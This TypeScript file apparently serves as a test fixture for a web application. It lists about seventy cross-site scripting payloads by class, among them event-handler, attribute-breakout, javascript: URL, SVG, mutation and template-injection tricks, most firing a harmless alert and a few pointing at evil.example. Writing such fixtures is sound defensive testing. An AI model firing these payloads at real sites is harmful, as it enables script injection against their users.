/**
 * Texts that become a script if a page inserts them without care: by class, each with its own mark. All except those
 * about addresses call `alert` or have an attribute that begins with `on`, so that each can be noticed.
 */
export const scriptPayloads: readonly string[] = [
  // elements
  '<script>alert(1)</script>',
  '<ScRiPt>alert(2)</sCrIpT>',
  '<script src=data:text/javascript,alert(3)></script>',
  '</title><script>alert(4)</script>',
  '</textarea><script>alert(5)</script>',
  '</script><script>alert(6)</script>',
  '--><script>alert(7)</script>',
  ']]><script>alert(8)</script>',
  '<script/x>alert(9)</script>',
  '<scr<script>ipt>alert(10)</scr</script>ipt>',
  '<iframe src=javascript:alert(11)></iframe>',
  '<iframe srcdoc="<script>parent.alert(12)</script>"></iframe>',
  '<object data=javascript:alert(13)></object>',
  '<embed src=javascript:alert(14)>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(16)">',
  '<link rel=stylesheet href=//evil.example/x.css onerror=alert(17)>',
  '<style>@import "//evil.example/x.css"</style>',
  // events
  '<img src=x onerror=alert(19)>',
  '<img/src=x/onerror=alert(20)>',
  '<img src=x onerror = alert(21)>',
  '<body onload=alert(22)>',
  '<input autofocus onfocus=alert(23)>',
  '<details open ontoggle=alert(24)>x</details>',
  '<video><source onerror=alert(25)></video>',
  '<audio src=x onerror=alert(26)>',
  '<marquee onstart=alert(27)>x</marquee>',
  '<select autofocus onfocus=alert(28)>',
  '<div style="animation:x 1s" onanimationstart=alert(29)>',
  '<a href=# onmouseover=alert(30)>x</a>',
  '<p oncontentvisibilityautostatechange=alert(31) style=content-visibility:auto>',
  '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(32)>x</p>',
  // out of an attribute
  '"><img src=x onerror=alert(33)>',
  "'><img src=x onerror=alert(34)>",
  '" autofocus onfocus=alert(35) x="',
  "' autofocus onfocus=alert(36) x='",
  '` onmouseover=alert(37) x=`',
  '" style="background:url(javascript:alert(38))',
  // addresses
  'javascript:alert(39)',
  'JaVaScRiPt:alert(40)',
  'java&Tab;script:alert(41)',
  '\u00a0javascript:alert(42)',
  'javascript://evil.example/%0aalert(43)',
  'data:text/html,<script>alert(44)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCg0NSk8L3NjcmlwdD4=',
  'vbscript:msgbox(46)',
  // SVG and MathML
  '<svg onload=alert(47)>',
  '<svg><script>alert(48)</script></svg>',
  '<svg><animate onbegin=alert(49) attributeName=x dur=1s>',
  '<svg><a href="javascript:alert(50)"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(51)>#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=alert(52)></foreignObject></svg>',
  '<math><mtext><img src=x onerror=alert(53)></mtext></math>',
  // texts that change when parsed a second time
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(54)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(55)>">',
  '<template><img src=x onerror=alert(56)></template>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(57)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(58)>',
  // templates and encodings
  '{{constructor.constructor("alert(59)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody else's template would fill
  '${alert(60)}',
  '<%= alert(61) %>',
  '#{alert(62)}',
  '&lt;img src=x onerror=alert(63)&gt;',
  '\\u003cimg src=x onerror=alert(64)\\u003e',
  '%3Cimg%20src%3Dx%20onerror%3Dalert(65)%3E',
  '\uff1cscript\uff1ealert(66)\uff1c/script\uff1e',
  '+ADw-script+AD4-alert(68)+ADw-/script+AD4-',
]

/** Hidden behind invisible characters. Every field refuses those, so they are never stored. */
export const unseenPayloads: readonly string[] = [
  '\u202e<img src=x onerror=alert(67)>',
  '<scr\u0000ipt>alert(69)</scr\u0000ipt>',
]

/** The few that have broken most pages, for short runs. */
export const shortPayloads: readonly string[] = [
  '<img src=x onerror=alert(19)>',
  '"><svg onload=alert(47)>',
  '</title><script>alert(4)</script>',
]

/** Payloads joined to one-line texts of the shortest long field, so that few pages show them all. */
export function joinedPayloads(payloads: readonly string[]): string[] {
  const texts: string[] = []
  for (const payload of payloads) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + payload.length < MAX_JOINED) {
      texts[texts.length - 1] = `${last} ${payload}`
    } else {
      texts.push(payload)
    }
  }
  return texts
}

/** A person's name has at most 200 characters. */
const MAX_JOINED = 190
